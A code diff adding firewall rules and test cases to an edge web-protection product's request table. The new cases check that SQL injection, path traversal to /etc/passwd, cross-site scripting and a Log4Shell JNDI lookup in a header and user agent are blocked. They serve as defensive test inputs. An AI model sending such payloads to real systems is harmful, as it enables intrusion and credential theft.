@@ -1,5 +1,5 @@
 import type { CheckMethod, RulesetRateLimit } from '@sitekeep/contracts';
-import { defaultArrival, defaultCheck, defaultResponse } from '@sitekeep/contracts';
+import { defaultArrival, defaultCheck, defaultFirewall, defaultResponse, type RulesetFirewallRule } from '@sitekeep/contracts';
 import type { RulesetParts } from '../../testing/publisher.ts';
 
 /** One request of the table, without a body. Each comes from an address of its own, unless it names one. */
@@ -33,6 +33,12 @@ const limit = (name: string, path: string, parts: Partial<RulesetRateLimit> = {}
   ...parts,
 });
 const prefix = (value: string) => ({ kind: 'prefix' as const, value });
+const ruleOn = (path: string, action: RulesetFirewallRule['action']): RulesetFirewallRule => ({
+  name: `on ${path}`,
+  match: 'all',
+  conditions: [{ field: 'path', name: null, operator: 'prefix', values: [path], negate: false, ignoreCase: false }],
+  action,
+});
 
 /** Where the addresses of the table lie: the lists are loaded for the edge, the countries are what its database says. */
 export const networks = {
@@ -66,6 +72,23 @@ export const enforced: RulesetParts = {
       { path: prefix('/order'), methods: ['POST', 'PUT'], method: 'captcha' },
     ],
     excluded: [prefix('/members/open')],
+  },
+  firewall: {
+    ...defaultFirewall,
+    mode: 'block',
+    exclusions: [
+      { rule: null, family: 'traversal', path: prefix('/login'), place: 'path', parameter: null },
+      { rule: null, family: 'protocol', path: prefix('/login'), place: null, parameter: null },
+      { rule: null, family: null, path: null, place: 'query', parameter: 'code' },
+    ],
+    rules: [
+      ruleOn('/secret', { kind: 'block' }),
+      ruleOn('/odd', { kind: 'challenge' }),
+      ruleOn('/moved', { kind: 'redirect', location: '/elsewhere?from=rule', status: 303 }),
+      ruleOn('/costly', { kind: 'rate_limit', limit: 2, windowSeconds: 3600 }),
+      ruleOn('/noted', { kind: 'log' }),
+      ruleOn('/free', { kind: 'allow' }),
+    ],
   },
   arrival: { ...defaultArrival, limits: { headBytes: 4096, urlBytes: 1024, bodyBytes: null } },
   response: {
@@ -125,6 +148,32 @@ export const cases: readonly Case[] = [
   { name: 'a captcha path with a weak pass', method: 'POST', target: '/order', pass: 'invisible', expected: 429 },
   { name: 'a captcha path with a pass', method: 'POST', target: '/order', pass: 'captcha', expected: 'origin' },
   { name: 'a made-up pass', target: '/members', headers: ['Cookie', `sitekeep_pass4=1i${'0'.repeat(50)}`], expected: 429 },
+
+  { name: 'an attack in the query', target: "/page?id=1'+union+select+username,password+from+users--", expected: 403 },
+  { name: 'an attack in the query, as a browser', target: "/p?id=1'+or+1=1--", headers: ['Accept', 'text/html'], expected: 403 },
+  { name: 'an attack in the query, POST', method: 'POST', target: '/page?file=../../../../etc/passwd', expected: 403 },
+  { name: 'an attack in the query, by HEAD', method: 'HEAD', target: '/page?file=../../../../etc/passwd', expected: 403 },
+  { name: 'an encoded attack in the query', target: '/page?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', expected: 403 },
+  { name: 'an attack in the path', target: '/a/%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', expected: 403 },
+  { name: 'an attack in a header', headers: ['X-Api-Version', '${jndi:ldap://198.51.100.9/a}'], expected: 403 },
+  { name: 'an attack in the name of the browser', userAgent: '${jndi:ldap://198.51.100.9/a}', expected: 403 },
+  { name: 'an attack in a cookie', headers: ['Cookie', "id=1' union select 1,password from users--"], expected: 403 },
+  { name: 'an attack on a checked path, before the check', target: '/members?file=../../../../etc/passwd', expected: 403 },
+  { name: 'an attack by a whitelisted address', address: '127.77.1.9', target: '/page?file=../../../../etc/passwd', expected: 403 },
+  { name: 'an attack that would be redirected', target: '/old?file=../../../../etc/passwd', expected: 403 },
+  { name: 'words that only look odd', target: '/search?q=select+a+table+and+order+by+phone', expected: 'origin' },
+  { name: 'an excluded parameter', target: "/page?code=1'+union+select+1,password+from+users--", expected: 'origin' },
+  { name: 'another one beside it', target: "/page?code=1'+union+select+1,2--&id=1'+union+select+1,password+from+users--", expected: 403 },
+  { name: 'a rule that blocks', target: '/secret/1', expected: 403 },
+  { name: 'a rule that blocks, by an escaped path', target: '/%73ecret', expected: 403 },
+  { name: 'a rule that wants the check', target: '/odd', expected: 429 },
+  { name: 'a rule that wants the check, as a browser', target: '/odd', headers: ['Accept', 'text/html'], expected: 429 },
+  { name: 'a rule that wants the check, with a pass', target: '/odd', pass: 'invisible', expected: 'origin' },
+  { name: 'a rule that sends elsewhere', target: '/moved/x', expected: 303 },
+  { name: 'below the limit of a rule', target: '/costly', times: 2, expected: 'origin' },
+  { name: 'beyond the limit of a rule', target: '/costly', times: 3, expected: 429 },
+  { name: 'a rule that only writes down', target: '/noted', expected: 'origin' },
+  { name: 'a rule that spares', target: "/free?id=1'+union+select+1,password+from+users--", expected: 'origin' },
 
   { name: 'a redirect', target: '/old/page?x=1', expected: 301 },
   { name: 'an escaped slash', target: '/a%2fb', expected: 'origin' },
